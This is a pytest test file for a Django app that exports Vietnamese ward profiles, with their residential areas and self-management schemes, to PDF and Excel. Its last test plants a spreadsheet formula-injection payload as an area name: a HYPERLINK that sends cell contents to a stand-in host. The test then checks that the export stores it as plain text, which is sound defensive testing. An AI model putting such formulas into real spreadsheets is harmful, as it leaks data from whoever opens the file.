"""The ward profile sheet, end to end: the button on the ward page, the PDF and the workbook."""

import datetime
import io

import openpyxl
import pypdf
import time_machine
from django.urls import reverse

from documents.models import Job, JobStatus
from tests.documents import readback
from tests.fidelity import MM
from wards.models import AreaKind, ResidentialArea


def make_areas(ward):
    for kind, name, households, population in [
        (AreaKind.THON, "Thôn Đông", 120, 450),
        (AreaKind.KHU_PHO, "Khu phố Ánh Dương", 1200, 4500),
        (AreaKind.AP, "Ấp Bắc", None, None),
        (AreaKind.THON, "Thôn Dân Chủ", 80, 300),
        (AreaKind.KHU_PHO, "Khu phố An Hòa", 15, 60),
    ]:
        ResidentialArea.objects.create(
            ward=ward, kind=kind, name=name, households=households, population=population
        )


def print_profile(client, ward, fmt):
    response = client.post(
        reverse("documents:generate"), {"kind": "wards.profile", "fmt": fmt, "object": ward.pk}
    )
    assert response.status_code == 302
    job = Job.objects.latest("pk")
    assert job.status == JobStatus.DONE, job.error
    return job


def test_the_ward_page_has_the_print_buttons(login, people, units):
    page = login(people["ward_official"]).get(reverse("wards:unit", args=["90001"]))
    html = page.content.decode()
    assert f'action="{reverse("documents:generate")}"' in html
    assert 'data-kind="wards.profile" data-fmt="pdf"' in html
    assert 'data-kind="wards.profile" data-fmt="xlsx"' in html
    assert "In hồ sơ phường (PDF)" in html


def test_the_profile_pdf_lists_areas_in_vietnamese_order_with_totals(login, people, units):
    make_areas(units["ward"])
    job = print_profile(login(people["ward_official"]), units["ward"], "pdf")
    assert job.filename == "Hồ sơ Phường An.pdf"
    text = pypdf.PdfReader(io.BytesIO(job.file.read())).pages[0].extract_text()
    assert "ỦY BAN NHÂN DÂN\nPHƯỜNG AN" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Độc lập - Tự do - Hạnh phúc" in text
    assert "HỒ SƠ PHƯỜNG AN" in text
    assert "\x00" not in text
    lines = text.splitlines()
    order = [
        next(i for i, line in enumerate(lines) if name in line)
        for name in (
            "Ấp Bắc",
            "Khu phố An Hòa",
            "Khu phố Ánh Dương",
            "Thôn Dân Chủ",
            "Thôn Đông",
        )
    ]
    # A < Á in the tones, â after a, D before Đ (Vietnamese alphabet order).
    assert order == sorted(order)
    assert "Khu phố Ánh Dương Khu phố 1.200 4.500" in text
    assert "Cộng: 5 khu 1.415 5.310" in text


def test_the_profile_workbook_has_numbers_as_numbers(login, people, units):
    make_areas(units["ward"])
    job = print_profile(login(people["district"]), units["ward"], "xlsx")
    assert job.filename == "Hồ sơ Phường An.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert sheet.title == "Khu dân cư"
    assert rows[0][0] == "Hồ sơ Phường An"
    header = rows.index(("STT", "Tên khu dân cư", "Loại", "Số hộ", "Nhân khẩu"))
    assert rows[header + 1] == (1, "Ấp Bắc", "Ấp", None, None)
    assert rows[header + 3] == (3, "Khu phố Ánh Dương", "Khu phố", 1200, 4500)
    # Totals Excel recomputes over the five rows below the header.
    first, last = header + 2, header + 6
    sums = (f"=SUM(D{first}:D{last})", f"=SUM(E{first}:E{last})")
    assert rows[-1] == (None, "Cộng: 5 khu", None, *sums)


def test_a_ward_without_areas_still_prints(login, people, units):
    job = print_profile(login(people["ward_official"]), units["ward"], "pdf")
    text = pypdf.PdfReader(io.BytesIO(job.file.read())).pages[0].extract_text()
    assert "Cộng: 0 khu" in text


def test_another_wards_profile_is_not_found(login, people, units):
    client = login(people["outsider"])
    response = client.post(
        reverse("documents:generate"),
        {"kind": "wards.profile", "fmt": "pdf", "object": units["ward"].pk},
    )
    assert response.status_code == 404


def test_the_profile_pdf_counts_the_register_by_kind(login, people, units):
    from tests.register import make_scheme, seed_kinds

    kinds = seed_kinds()
    for n in range(3):
        make_scheme(units["ward"], kinds["to-tu-quan"], f"Tổ tự quản số {n + 1}")
    make_scheme(units["ward"], kinds["to-hoa-giai"], "Tổ hòa giải khu 1")
    make_scheme(units["sibling"], kinds["to-hoa-giai"], "Tổ hòa giải của phường khác")
    job = print_profile(login(people["ward_official"]), units["ward"], "pdf")
    reader = pypdf.PdfReader(io.BytesIO(job.file.read()))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "MÔ HÌNH TỰ QUẢN VỀ ANTT THEO LOẠI" in text.upper()
    assert "Tổ tự quản ANTT 3" in text
    assert "Tổ hòa giải 1" in text


LONG_AREAS = [
    "Khu phố Nguyễn Tri Phương Đông",
    "Tổ dân phố Hòa Khánh Bắc số 12",
    "Thôn Phong Thử",
    "Khu phố 7",
]


def _long_named_ward(units):
    """A ward whose name wraps the header's authority column, with schemes in each area."""
    from tests.register import make_scheme, seed_kinds

    ward = units["ward"]
    ward.name = "Điện Bàn Đông"
    ward.division_type = "phường"
    ward.save()
    kinds = seed_kinds()
    for index, name in enumerate(LONG_AREAS):
        area = ResidentialArea.objects.create(
            ward=ward, kind=AreaKind.KHU_PHO, name=name, households=1200 + index, population=4500
        )
        make_scheme(ward, kinds["to-tu-quan"], f"Tổ tự quản {name}", area=area)
        make_scheme(ward, kinds["to-hoa-giai"], f"Tổ hòa giải {name}", area=area)
    return ward


@time_machine.travel(datetime.datetime(2026, 12, 2, 9, 0, tzinfo=datetime.UTC), tick=False)
def test_the_profile_pdf_is_fit_to_sign(login, people, units):
    ward = _long_named_ward(units)
    job = print_profile(login(people["ward_official"]), ward, "pdf")
    pdf = readback.fit_to_sign(job.file.read())
    readback.assert_national_header(
        pdf,
        issuer=["ỦY BAN NHÂN DÂN", "PHƯỜNG ĐIỆN BÀN ĐÔNG"],
        number=None,
        place_date="Điện Bàn Đông, ngày 02 tháng 12 năm 2026",
    )
    # The ward's name on a line of its own, its spaces not stretched to the column's width.
    authority = pdf.line("PHƯỜNG ĐIỆN BÀN ĐÔNG")
    assert authority.x1 - authority.x0 < 60 * MM
    # The per-area table: the name column wide enough for the longest name on one line,
    # each header on one line (never "Số mô" over "hình"), no empty column.
    longest = [line for line in pdf.lines if line.text == "4 Tổ dân phố Hòa Khánh Bắc số 12"]
    assert len(longest) == 2  # the areas, then the schemes by area
    for header in (
        "STT Khu dân cư Số mô hình Gồm",
        "STT Loại mô hình Số mô hình Tạm ngừng Số liệu",
        "STT Loại hoạt động Số lần ghi Tổng số",
    ):
        assert header in pdf.flat
    assert "4 Tổ dân phố Hòa Khánh Bắc số 12 2 1 tổ tự quản ANTT, 1 tổ hòa giải" in pdf.flat
    assert "Cộng 8" in pdf.flat


@time_machine.travel(datetime.datetime(2026, 12, 2, 9, 0, tzinfo=datetime.UTC), tick=False)
def test_the_profile_workbook_can_be_summed_and_printed(login, people, units):
    ward = _long_named_ward(units)
    job = print_profile(login(people["ward_official"]), ward, "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(job.file.read()))
    assert book.sheetnames == [
        "Khu dân cư",
        "Mô hình theo loại",
        "Mô hình theo khu dân cư",
        "Hoạt động năm 2026",
    ]
    sheet = book["Mô hình theo khu dân cư"]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows.index(("STT", "Khu dân cư", "Số mô hình", "Gồm"))
    assert rows[header + 1][:3] == (1, "Khu phố 7", 2)
    assert rows[-1] == (None, "Cộng", f"=SUM(C{header + 2}:C{header + 5})", None)
    areas = book["Khu dân cư"]
    assert (areas["D7"].value, areas["D7"].number_format) == (1203, "#,##0")
    assert (areas["A7"].value, areas["A7"].number_format) == (1, "0")
    for sheet in book.worksheets:
        readback.assert_sheet_printable(sheet, header_row=6)


def test_a_name_written_as_a_formula_is_exported_as_text(login, people, units):
    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
    ResidentialArea.objects.create(ward=units["ward"], kind=AreaKind.THON, name=hostile)
    job = print_profile(login(people["ward_official"]), units["ward"], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(job.file.read())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert [cell.data_type for cell in cells] == ["s"]
